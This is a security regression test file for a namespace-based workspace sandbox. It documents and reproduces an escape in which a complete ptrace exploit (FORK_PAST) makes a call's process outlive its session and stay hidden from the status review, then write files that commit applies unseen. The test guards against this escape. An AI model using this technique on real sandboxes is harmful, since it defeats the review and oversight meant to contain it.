"""Attack pass 14 (critical): a call makes a process whose parent is outside the session's
pid namespace (the entry's nsenter), so the session's init never ends it; born in pid and
user namespaces of its own, ``workspace status`` does not list it either: it writes the
sandbox after review said nothing runs, and commit applies what review never showed.

The init (holder/session_init.py ``_serve``) ends what a call leaves by killing its own
children: every orphan of the session's pid namespace is re-parented to it. But the top of
each call (the entry's ``bash -c``) is the child of nsenter, a host process outside that
namespace. A call may ptrace its own top (same uid and user namespace, dumpable; root of the
view when run by root or with a single mapping, the same unprivileged uid with subordinate
ids) and make it fork with CLONE_PARENT: the new process is nsenter's child. When the call
ends, nsenter exits and the kernel re-parents that process to the host's reaper (the
reaper of nsenter's pid namespace, here the host's pid 1), never to the session's init,
which never looks at it. Plain, it stays in the session's pid namespace and ``status``
lists it (commit and discard refuse; the holder never idles). With CLONE_NEWUSER |
CLONE_NEWPID added to that clone it is in neither the holder's user namespace nor the
session's pid namespace (a child of it), which is all ``engine.namespace_members`` looks
for: ``status`` says nothing runs, commit's busy check passes, and the process writes
whenever it likes. Only the holder's end (its pid namespace dies) ends it.

Reproduction (every account; root and wstest with subordinate ids tested here): a call runs
a small ptrace program (``FORK_PAST``): attach to the top of the call (the ancestor whose
parent is 0 in the session's namespace), point it at the syscall instruction it sleeps in
(wait4) with clone(CLONE_PARENT | CLONE_NEWUSER | CLONE_NEWPID | SIGCHLD), catch the child
(PTRACE_O_TRACEFORK), make it execve /bin/sh -c 'sleep 5; echo late >late.txt; sleep 20',
restore the top and detach. The call ends normally; `workspace status --json` right after
lists nothing running and no late.txt; 8 s later it lists late.txt as a change.

Seen since (holder/pidns.py): a process below the session's pid namespace is the session's,
so ``status`` lists it and commit waits (the second test). Ended since (holder/strays.py):
the init ends each process of the session whose parent is outside it and no entry, as it
ends orphans (the first test).
"""

from __future__ import annotations

import json
import time

import pytest

from tests.engines import accounts
from tests.security.test_orphan_hops_past_the_init import left_by
from tests.security.test_orphan_hops_past_the_init import nothing_of_a_finished_call_runs

pytestmark = [pytest.mark.engine, pytest.mark.needs_root]

LIFE = 25   # seconds the process lives, so that a failing run ends by itself

FORK_PAST = r"""
import ctypes, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
ATTACH, DETACH, CONT, GETREGS, SETREGS, POKEDATA = 16, 17, 7, 12, 13, 5
SETOPTIONS, GETEVENTMSG, TRACEFORK, EVENT_FORK, WALL = 0x4200, 0x4201, 2, 1, 0x40000000
FIELDS = ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags "
          "rsp ss fs_base gs_base ds es fs gs").split()
class Regs(ctypes.Structure):
    _fields_ = [(f, ctypes.c_ulonglong) for f in FIELDS]
def pt(req, pid, addr=0, data=0):
    ctypes.set_errno(0)
    r = libc.ptrace(req, pid, ctypes.c_void_p(addr), ctypes.c_void_p(data))
    if r == -1 and ctypes.get_errno():
        raise OSError(ctypes.get_errno(), f"ptrace {req} {pid}")
    return r
def ppid(pid):
    with open(f"/proc/{pid}/stat", "rb") as f:
        return int(f.read().rsplit(b")", 1)[1].split()[1])
top = os.getpid()
while ppid(top) != 0:
    top = ppid(top)
pt(ATTACH, top)
os.waitpid(top, WALL)
pt(SETOPTIONS, top, 0, TRACEFORK)
saved = Regs()
pt(GETREGS, top, 0, ctypes.addressof(saved))
r = Regs()
ctypes.memmove(ctypes.addressof(r), ctypes.addressof(saved), ctypes.sizeof(r))
insn = saved.rip - 2   # it sleeps in wait4: the syscall instruction just before
r.rip, r.rax, r.orig_rax = insn, 56, 2**64 - 1
flags = int(sys.argv[2], 0) | 0x8000 | 17   # clone(CLONE_PARENT | SIGCHLD | what is asked)
r.rdi, r.rsi, r.rdx, r.r10, r.r8 = flags, 0, 0, 0, 0
pt(SETREGS, top, 0, ctypes.addressof(r))
pt(CONT, top)
_, status = os.waitpid(top, WALL)
assert status >> 16 == EVENT_FORK, hex(status)
msg = ctypes.c_ulong()
pt(GETEVENTMSG, top, 0, ctypes.addressof(msg))
child = msg.value
os.waitpid(child, WALL)
c = Regs()
pt(GETREGS, child, 0, ctypes.addressof(c))
base = (c.rsp - 8192) & ~15
args = [b"/bin/sh\0", b"-c\0", sys.argv[1].encode() + b"\0"]
blob, ptrs = b"", []
for a in args:
    ptrs.append(base + 64 + len(blob))
    blob += a
blob = struct.pack(f"{len(ptrs) + 1}Q", *ptrs, 0).ljust(64, b"\0") + blob
blob += b"\0" * (-len(blob) % 8)
for i in range(0, len(blob), 8):
    pt(POKEDATA, child, base + i, struct.unpack("Q", blob[i:i + 8])[0])
c.rip, c.rax, c.orig_rax = insn, 59, 2**64 - 1   # execve
c.rdi, c.rsi, c.rdx = base + 64, base, 0
pt(SETREGS, child, 0, ctypes.addressof(c))
pt(DETACH, child)
pt(SETREGS, top, 0, ctypes.addressof(saved))
pt(DETACH, top)
print("forked past", child, "parent", ppid(child), flush=True)
"""

CALL = f"""cat >/tmp/fork_past.py <<'EOF'
{FORK_PAST}
EOF
/usr/bin/python3 /tmp/fork_past.py 'exec </dev/null >/dev/null 2>&1; sleep {LIFE}; echo late >late.txt' 0
"""

# The same, born in a user and a pid namespace of its own (CLONE_NEWUSER | CLONE_NEWPID):
# namespace_members looks for the holder's user namespace or the session's pid namespace,
# and this process is in neither; the init never sees it either. Review says nothing runs.
UNSEEN = f"""cat >/tmp/fork_past.py <<'EOF'
{FORK_PAST}
EOF
/usr/bin/python3 /tmp/fork_past.py \
    'exec </dev/null >/dev/null 2>&1; sleep 5; echo late >late.txt; sleep 20' 0x30000000
"""


@pytest.mark.parametrize("kind", accounts.KINDS)
def test_no_process_of_a_finished_call_escapes_the_inits_reach(kind: str, tmp_path) -> None:
    nothing_of_a_finished_call_runs(kind, tmp_path, CALL, "forked past")


@pytest.mark.parametrize("kind", accounts.KINDS)
def test_no_process_of_a_finished_call_writes_after_review_said_nothing_runs(kind: str, tmp_path) -> None:
    account = accounts.make(kind, tmp_path)
    try:
        left_by(account, UNSEEN, "forked past")
        review = json.loads(account.ws("status", "--json", check=True).stdout)
        seen = {c.get("path") for c in review["changes"]}
        time.sleep(8)
        later = json.loads(account.ws("status", "--json", check=True).stdout)
        new = {c.get("path") for c in later["changes"]} - seen
        assert review.get("running") or not new, (
            f"review said nothing of the session runs, then {sorted(new)} changed: "
            "commit would apply what review never showed")
    finally:
        accounts.clean(account)
